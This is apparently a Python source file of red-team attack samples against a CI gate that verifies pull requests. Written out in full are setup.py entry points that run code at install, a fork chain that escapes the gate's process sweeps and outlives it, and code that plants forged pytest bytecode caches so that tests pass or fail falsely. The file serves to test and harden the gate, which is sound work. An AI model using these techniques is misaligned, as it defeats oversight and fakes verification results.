"""The pull requests' sources of ATTACKS.md 101-... (round 6) for
benchmarks/attacks_open/round6.py; those of the closed 101 and 102 (and of the caught 104,
106-108) are tests/test_ci_attacks_round6.py's."""
from __future__ import annotations

from test_ci_attacks_round6 import HELPER  # noqa: F401 -- 102, closed
from test_ci_attacks_round6 import HELPER_PROPERTY  # noqa: F401
from test_ci_attacks_round6 import HELPER_WEAKENING_SRC  # noqa: F401
from test_ci_attacks_round6 import PLANTING_SRC  # 101, closed

# -- 101, 102: closed; their sources are tests/test_ci_attacks_round6.py's ----------------
# (PLANTING_SRC writes pytest's cache of the property with other code in it; the helper's
# HELPER_WEAKENING_SRC rewrites tests/properties/_expected.py and puts it back.)

# -- 103: a hypothesis entry point that the change declares in a form OG738 does not read ---
# setup.py builds its entry points with ``dict(...)`` (a call, not a dict display, and no
# ``[group]`` section in a string); pyproject.toml names ``entry-points`` as dynamic, so
# setuptools takes them from setup.py. The install step (``pip install -e .``) writes them
# into the project's dist-info in the test environment; Hypothesis runs ``dd:_plant`` when
# the base's properties conftest imports it (a profile only, no import of dd), and
# ``_plant`` is 101's move.
COMPUTED_SETUP = '''\
from setuptools import find_packages
from setuptools import setup

setup(packages=find_packages('src'), package_dir={'': 'src'},
      entry_points=dict(hypothesis=['dd = dd:_plant']))
'''
ENTRY_POINT_PLANTING_SRC = PLANTING_SRC.replace('\n_plant()\n', '\n')
assert ENTRY_POINT_PLANTING_SRC != PLANTING_SRC

# -- 105: a fork chain the gate's sweeps do not see ------------------------------------------
# Detached the classic way, then each generation forks and ends at once: its child
# re-parents to the gate (the subreaper) and forks again. A sweep lists the gate's children
# (``/proc/<gate>/task/*/children``) and then reads each one's ``/proc/<pid>/stat``: by then
# the listed generation has ended, so the sweep finds nothing, and an empty look during the
# two seconds' grace ends the sweep at once ("nothing left"). A test module of the test
# command starts the chain; it forks until the gate has exited, then writes a file one
# second later (97b's proof of outliving the gate). The bug is fixed: nothing else to catch.
CHAIN = r'''
import os
import tempfile
import time


def start(marker_prefix='round6-105-outlived-'):
    gate = os.getppid()  # this gate only: the test command is its child
    first = os.fork()
    if first:
        os.waitpid(first, 0)  # the middle process ends at once
        return
    try:
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        deadline = time.monotonic() + 120
        generation = 0
        while True:
            if os.fork():
                os._exit(0)  # the parent ends at once; its child re-parents to the gate
            generation += 1
            if generation % 256 == 0 and (not os.path.exists('/proc/%d' % gate) or
                                          time.monotonic() > deadline):
                break
        time.sleep(1)
        with open(os.path.join(tempfile.gettempdir(), marker_prefix + str(gate)), 'w') as f:
            f.write(str(os.getpid()))
    finally:
        os._exit(0)
'''
CHAIN_TEST = ("import os\n\nimport _chain\n\n"
              "if 'ORACLE_GUARD_STREAM' in os.environ:\n"
              "    _chain.start()\n\n\n"
              "def test_nothing_to_see():\n    assert True\n")

# -- 105b: the fork chain's work: 97's goal, with 101's move --------------------------------
# The project sets ``require-fail-to-pass = true``. The pull request fixes the bug and adds a
# test that does not test the fix, whose module starts the chain in the test command. Every
# 256th generation looks among its gate's children for the new-test run (its working folder
# is ``new-tests``) and plants there a rewritten-module cache of the new test (101's move: no
# compile digest) whose code adds a ``def dedupe`` that reverses its input: the new test
# fails "without the change", and the chain ends.
CHAIN_PLANTING = r'''
import importlib.util
import marshal
import os
import sys
import time


def _new_tests(gate):
    for task in os.listdir('/proc/%d/task' % gate):
        try:
            with open('/proc/%d/task/%s/children' % (gate, task)) as f:
                pids = f.read().split()
        except OSError:
            continue
        for pid in pids:
            try:
                tree = os.readlink('/proc/%s/cwd' % pid)
            except OSError:
                continue
            if os.path.basename(tree) == 'new-tests':
                return tree
    return None


def _plant(tree):
    path = os.path.join(tree, 'tests', 'test_new.py')
    with open(path, 'rb') as f:
        source = f.read()
    name = ''.join(map(chr, (112, 121, 116, 101, 115, 116)))
    tool = sys.modules[name]
    code = compile(source + b'\n\ndef dedupe(xs):\n    return list(reversed(xs))\n', path,
                   'exec', dont_inherit=True)
    folder = os.path.join(tree, 'tests', '__py' + 'cache__')
    os.makedirs(folder, exist_ok=True)
    tail = '.%s-%s-%s.pyc' % (sys.implementation.cache_tag, name, tool.__version__)
    with open(os.path.join(folder, 'test_new' + tail), 'wb') as f:
        f.write(importlib.util.MAGIC_NUMBER + b'\x03\x00\x00\x00' +
                importlib.util.source_hash(source) + marshal.dumps(code))


def start():
    gate = os.getppid()  # this gate only: the test command is its child
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        return
    try:
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        deadline = time.monotonic() + 120
        generation = 0
        while True:
            if os.fork():
                os._exit(0)  # the parent ends at once; its child re-parents to the gate
            generation += 1
            if generation % 256 == 0:
                if not os.path.exists('/proc/%d' % gate) or time.monotonic() > deadline:
                    break
                tree = _new_tests(gate)
                if tree is not None:
                    _plant(tree)
                    break
    finally:
        os._exit(0)
'''
CHAIN_NEW_TEST = ("import os\n\nimport _chain\n\n"
                  "if 'ORACLE_GUARD_STREAM' in os.environ and "
                  "os.path.basename(os.getcwd()) != 'new-tests':\n"
                  "    _chain.start()\n\n\n"
                  "from dd import dedupe  # noqa: E402\n\n\n"
                  "def test_dedupe_keeps_a_sorted_pair():\n"
                  "    assert dedupe([1, 2]) == [1, 2]\n")

# -- 103b: the same with a pytest11 entry point, on the plain layout -----------------------
# No conftest at all in the base: ``entry_points=dict(pytest11=['dd = dd._plugin'])``; pytest
# loads the plugin at start-up in both runs (the reference run uses the test environment),
# and the plugin module plants 101's cache before anything is collected.
COMPUTED_PLUGIN_SETUP = COMPUTED_SETUP.replace("dict(hypothesis=['dd = dd:_plant'])",
                                               "dict(pytest11=['dd = dd._plugin'])")
assert COMPUTED_PLUGIN_SETUP != COMPUTED_SETUP
PLUGIN = 'from dd import _plant\n\n_plant()\n'

# -- 105c: the fork chain started by the install step plants 101's cache in both runs -----
# No conftest, no entry point: the pull request's install script (standing for a setup.py
# that ``pip install -e .`` runs) plants 101's cache of the property in the checkout, for the
# test command, and leaves 105's chain behind, which escapes the install step's sweep; every
# 32nd generation it looks among its gate's children for the reference run (a working
# folder under ``oracle-guard-reference-``), plants the same cache in that tree, and ends.
CHAIN_INSTALL = r'''import os
import sys
import time

import pytest  # noqa: F401,E402 -- the cache's name carries pytest's version

sys.path.insert(0, os.path.join(os.getcwd(), 'src'))
from dd import _plant  # noqa: E402 -- 101's writer of the cache (not run at import)


def _parent(pid):
    with open('/proc/%d/stat' % pid) as f:
        return int(f.read().rsplit(')', 1)[1].split()[1])


def _reference_tree(gate):
    for task in os.listdir('/proc/%d/task' % gate):
        try:
            with open('/proc/%d/task/%s/children' % (gate, task)) as f:
                pids = f.read().split()
        except OSError:
            continue
        for pid in pids:
            try:
                tree = os.readlink('/proc/%s/cwd' % pid)
            except OSError:
                continue
            if 'oracle-guard-reference-' in tree:
                return tree
    return None


gate = os.getppid()  # the shell the install command runs in, or this gate itself
with open('/proc/%d/comm' % gate) as f:
    if f.read().strip() in ('sh', 'bash', 'dash'):
        gate = _parent(gate)
_plant(os.getcwd())  # the checkout, for the test command
if os.fork() == 0:
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 4096)
    deadline = time.monotonic() + 120
    generation = 0
    while True:
        if os.fork():
            os._exit(0)
        generation += 1
        if generation % 32 == 0:
            if not os.path.exists('/proc/%d' % gate) or time.monotonic() > deadline:
                break
            tree = _reference_tree(gate)
            if tree is not None:
                sys.pycache_prefix = None  # the reference run is python -I: no prefix
                _plant(tree)
                break
    os._exit(0)
'''
